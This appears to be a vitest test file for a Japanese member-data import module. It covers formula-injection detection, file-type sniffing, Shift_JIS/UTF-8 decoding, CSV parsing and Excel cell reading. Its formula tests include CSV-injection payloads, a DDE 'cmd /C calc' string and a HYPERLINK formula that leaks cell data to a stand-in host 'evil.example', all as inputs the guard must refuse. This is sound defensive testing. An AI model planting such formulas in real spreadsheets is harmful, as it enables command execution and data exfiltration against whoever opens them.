import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { cellText } from "./cell-text";
import { parseCsv } from "./csv-parse";
import { looksLikeFormula } from "./formula-guard";
import { decodeCsvText, ImportFileError, sniffImportFile } from "./import-file";
import { readSheetRows, type SheetRow } from "./sheet-rows";

const bytes = (...b: number[]) => Buffer.from(b);

async function rowsOf(data: Buffer, kind: "xlsx" | "csv"): Promise<SheetRow[]> {
  const rows: SheetRow[] = [];
  for await (const row of readSheetRows(data, kind)) rows.push(row);
  return rows;
}

function refusal(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(ImportFileError);
    return (error as Error).message;
  }
  throw new Error("expected a refusal");
}

describe("formula-looking cells", () => {
  it.each([
    ["=cmd|' /C calc'!A0", true],
    ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', true],
    ["=1+1", true],
    ["＝ＳＵＭ（Ａ１）", true],
    ["\t=1+1", true],
    ["+A1", true],
    ["-2+3+cmd|' /C calc'!A0", true],
    ["@SUM(A1:A2)", true],
    ["-SUM(A1)", true],
    ["+=1", true],
    ["-", false],
    ["--", false],
    ["－", false],
    ["-3-5 サンハイツ101", false],
    ["-3-5 Sunny(101)", false],
    ["+81 90-1234-5678", false],
    ["-5", false],
    ["@", false],
    ["090-1234-5678", false],
    ["佐藤 太郎", false],
    ["a=b", false],
  ])("%s → %s", (text, expected) => {
    expect(looksLikeFormula(text)).toBe(expected);
  });
});

describe("file type by content", () => {
  it.each([
    ["an empty file", Buffer.alloc(0), "ファイルが空です"],
    ["a PNG renamed .xlsx", bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), "PNG 画像"],
    ["an .exe renamed .xlsx", Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"), "実行ファイル"],
    ["a PDF", Buffer.from("%PDF-1.7\n"), "PDF"],
    ["the old binary .xls", bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0), "古い形式の Excel"],
    ["UTF-16 text", bytes(0xff, 0xfe, 0x41, 0x00), "UTF-16"],
    ["binary data", bytes(0x41, 0x00, 0x42, 0x01, 0x02), "テキストではない形式"],
  ])("refuses %s with a Japanese message", (_what, data, message) => {
    expect(refusal(() => sniffImportFile(data))).toContain(message);
  });

  it("takes a zip for a workbook and text for CSV, whatever the name says", () => {
    expect(sniffImportFile(bytes(0x50, 0x4b, 0x03, 0x04, 0x14))).toBe("xlsx");
    expect(sniffImportFile(Buffer.from("会員ID,氏名\r\n"))).toBe("csv");
  });
});

describe("CSV encodings", () => {
  const text = "会員ID,氏名\r\n00123,髙橋　①子\r\n";

  it.each([
    ["UTF-8 with BOM", Buffer.concat([bytes(0xef, 0xbb, 0xbf), Buffer.from(text)]), "utf8-bom"],
    ["UTF-8", Buffer.from(text), "utf8"],
    ["Shift_JIS (CP932)", iconv.encode(text, "cp932"), "shift_jis"],
  ])("reads %s", (_what, data, encoding) => {
    expect(decodeCsvText(data)).toEqual({ text, encoding });
  });

  it("refuses bytes that are neither UTF-8 nor Shift_JIS", () => {
    expect(refusal(() => decodeCsvText(bytes(0x81, 0x20, 0xa0, 0xfd, 0xfe, 0xff)))).toContain("文字コード");
  });
});

describe("CSV records", () => {
  const parse = (text: string) => [...parseCsv(text)].map((r) => [r.rowNumber, r.fields]);

  it.each([
    [
      "plain CRLF",
      "a,b\r\nc,d\r\n",
      [
        [1, ["a", "b"]],
        [2, ["c", "d"]],
      ],
    ],
    [
      "LF and no final line end",
      "a,b\nc,d",
      [
        [1, ["a", "b"]],
        [2, ["c", "d"]],
      ],
    ],
    ["quotes, commas, doubled quotes", '"a,1","say ""hi""",x\n', [[1, ["a,1", 'say "hi"', "x"]]]],
    [
      "a line break inside a cell is one row",
      '"line1\nline2",b\nc,d\n',
      [
        [1, ["line1\nline2", "b"]],
        [2, ["c", "d"]],
      ],
    ],
    ["empty fields", ",,\n", [[1, ["", "", ""]]]],
    ["a stray quote is kept", 'ab"c,d\n', [[1, ['ab"c', "d"]]]],
  ])("%s", (_what, text, expected) => {
    expect(parse(text)).toEqual(expected);
  });

  it("refuses an unclosed quote, naming the row", () => {
    expect(refusal(() => parse('a,b\n"open,c\nd,e\n'))).toContain("2行目");
  });
});

describe("Excel cells", () => {
  async function workbook(fill: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
    const book = new ExcelJS.Workbook();
    fill(book.addWorksheet("データ"));
    book.addWorksheet("記入方法").addRow(["ignored"]);
    return Buffer.from(await book.xlsx.writeBuffer());
  }

  it("keeps text ids with leading zeros, dates, numbers, rich text, formula results and errors", async () => {
    const data = await workbook((sheet) => {
      sheet.addRow(["会員ID", "氏名", "生年月日", "携帯電話番号"]);
      sheet.addRow([
        "00123",
        { richText: [{ text: "佐藤" }, { text: "太郎", font: { bold: true } }] },
        new Date(Date.UTC(2010, 4, 1)),
        9012345678,
      ]);
      sheet.addRow([
        { formula: 'A2&"9"', result: "001239" },
        { formula: "B2", result: undefined },
        { error: "#N/A" },
        "090-1234-5678",
      ]);
    });
    const rows = await rowsOf(data, "xlsx");
    expect(rows.map((r) => r.rowNumber)).toEqual([1, 2, 3]);
    expect(rows[1]?.cells).toEqual(["00123", "佐藤太郎", new Date(Date.UTC(2010, 4, 1)), 9012345678]);
    expect(rows[2]?.cells).toEqual([
      "001239",
      { kind: "noResult" },
      { kind: "error", text: "#N/A" },
      "090-1234-5678",
    ]);
  });

  it("refuses a truncated workbook and a zip that is not one", async () => {
    const data = await workbook((sheet) => sheet.addRow(["会員ID"]));
    for (const broken of [
      data.subarray(0, Math.floor(data.length * 0.6)),
      bytes(0x50, 0x4b, 0x05, 0x06, ...Array(18).fill(0)),
    ]) {
      await expect(rowsOf(broken, "xlsx")).rejects.toThrow("Excel ファイルを読み込めません");
    }
  });

  it.each([
    // Digits as they are: parseImportedMemberField restores the lost 0 or the date, with a warning.
    ["a phone number that lost its leading 0", 9012345678, "tel", "9012345678"],
    ["a Hokkaido postal code that lost its leading 0", 600001, "postal", "600001"],
    ["a date cell", new Date(Date.UTC(2026, 3, 1)), "date", "2026-04-01"],
    ["a date serial without its format", 46113, "date", "46113"],
    ["yyyymmdd typed as a number", 20260401, "date", "20260401"],
    ["a member id typed as a number", 123, "code", "123"],
    ["a long number without an exponent", 1234567890123456, "code", "1234567890123456"],
    ["TRUE in a flag", true, "flag", "1"],
  ] as const)("reads %s", (_what, cell, kind, text) => {
    expect(cellText(cell, kind)).toEqual({ ok: true, text });
  });

  it("refuses formula text, error values and formulas without a saved result", () => {
    expect(cellText("=cmd|' /C calc'!A0", "text")).toMatchObject({
      ok: false,
      message: expect.stringContaining("数式"),
    });
    expect(cellText({ kind: "error", text: "#REF!" }, "text")).toMatchObject({
      ok: false,
      message: expect.stringContaining("#REF!"),
    });
    expect(cellText({ kind: "noResult" }, "text")).toMatchObject({
      ok: false,
      message: expect.stringContaining("計算結果"),
    });
    expect(cellText("-", "flag")).toEqual({ ok: true, text: "-" });
  });
});
